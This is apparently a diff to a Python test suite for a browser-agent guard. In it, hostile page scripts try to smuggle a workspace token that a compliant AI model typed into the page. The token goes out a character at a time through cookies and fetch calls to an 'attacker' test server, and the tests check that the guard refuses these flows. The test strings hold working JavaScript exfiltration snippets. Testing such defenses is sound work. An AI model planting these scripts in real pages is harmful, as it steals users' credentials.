@@ -7,9 +7,9 @@ After a compliant model typed a workspace token into a page, the page's script
 - posts it to its own site (one the user did not name), whose server keeps it and copies it into the redirect of a
   later EventSource to another host: the stream is refused, while an EventSource to a named site holding the data,
   and to a site holding nothing, still connects;
-- sends it a character at a time in a cookie of its own, to another host whose server sets a large new session
-  cookie on every answer (on main its pieces pushed the script's out of the site's stream): the pieces still add up
-  and are refused, while the same rotating cookie with ordinary typing refuses nothing;
+- sends it a character at a time in a cookie of its own, to another host whose server sets a large new cookie on
+  every answer (on main its pieces pushed the script's out of the site's stream): the pieces still add up and are
+  refused, while the same server's cookies with ordinary typing refuse nothing;
 - sends it a character at a time in a cookie to its own site, which then redirects an ordinary request to another
   host: the redirect is kept (no one-character cookie counts as copied), while a redirect copying a cookie of four
   characters is refused.
@@ -94,33 +94,33 @@ async def test_ordinary_streams_stay(tmp_path: Path, named: bool) -> None:
     assert not _refused(events)
 
 
-def _rotating(server: RecordingServer, sent: list[str]) -> None:
-    """Make ``server`` set a new 3,000-character ``sid`` cookie on every answer, and record in ``sent`` the ``d``
-    cookie each request carried."""
+def _setting_cookies(server: RecordingServer, sent: list[str]) -> None:
+    """Make ``server`` set a new 2,000-character cookie on every answer (under a new name: Chromium keeps the first
+    value of a cookie the router's fetch set), and record in ``sent`` the ``d`` cookie each request carried."""
     base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass  # type: ignore[assignment]
 
-    class Rotating(base):  # type: ignore[valid-type,misc]
+    class SettingCookies(base):  # type: ignore[valid-type,misc]
         def send_response(self, code: int, message: str | None = None) -> None:
             super().send_response(code, message)
             if urlsplit(self.path).path == "/k":
                 cookies = dict(c.strip().split("=", 1) for c in (self.headers.get("cookie") or "").split(";")
                                if "=" in c)
                 sent.append(cookies.get("d", ""))
-                self.send_header("set-cookie", f"sid={secrets.token_hex(1500)}; Path=/")
+                self.send_header("set-cookie", f"s{len(sent)}={secrets.token_hex(1000)}; Path=/")
 
-    server.server.RequestHandlerClass = Rotating
+    server.server.RequestHandlerClass = SettingCookies
 
 
 _COOKIE_KEYS = ("document.cookie = 'd=' + encodeURIComponent(v.slice(-1)) + '; path=/'; "
                 "fetch('{a}/k?n=' + v.length, {{mode: 'no-cors', credentials: 'include'}}).catch(() => {{}})")
 
 
-async def test_a_script_cookie_spread_over_requests_adds_up_while_the_server_rotates_a_large_one(
+async def test_a_script_cookie_spread_over_requests_adds_up_while_the_server_sets_large_ones(
     tmp_path: Path
 ) -> None:
     attacker, site = RecordingServer(), RecordingServer()
     sent: list[str] = []
-    _rotating(attacker, sent)
+    _setting_cookies(attacker, sent)
     with recording_servers(attacker, site):
         site.pages["/page"] = _page(_COOKIE_KEYS.format(a=attacker.url))
         status, events = await _run(tmp_path, site, TOKEN)
@@ -132,10 +132,10 @@ async def test_a_script_cookie_spread_over_requests_adds_up_while_the_server_rot
     assert refused and "a few characters" in refused[0].reason
 
 
-async def test_a_servers_rotating_cookie_does_not_ask(tmp_path: Path) -> None:
+async def test_a_servers_new_cookies_do_not_ask(tmp_path: Path) -> None:
     attacker, site = RecordingServer(), RecordingServer()
     sent: list[str] = []
-    _rotating(attacker, sent)
+    _setting_cookies(attacker, sent)
     text = "tomatoes and basil grow well together"
     with recording_servers(attacker, site):
         site.pages["/page"] = _page(_COOKIE_KEYS.format(a=attacker.url))
@@ -148,10 +148,10 @@ async def test_a_servers_rotating_cookie_does_not_ask(tmp_path: Path) -> None:
 
 def _keys_then(then: str) -> str:
     """A page that puts each typed character in its own site's ``d`` cookie and sends it there, then, once the
-    token is typed, runs ``then`` (after the cookies are in)."""
+    token is typed, runs ``then``."""
     return ("document.cookie = 'd=' + encodeURIComponent(v.slice(-1)) + '; path=/'; "
             "fetch('/k?n=' + v.length).catch(() => {}); "
-            f"(v.length === {len(TOKEN)} && setTimeout(() => {{ {then} }}, 800))")
+            f"(v.length === {len(TOKEN)} && (() => {{ {then} }})())")
 
 
 _THEN: dict[str, Any] = {
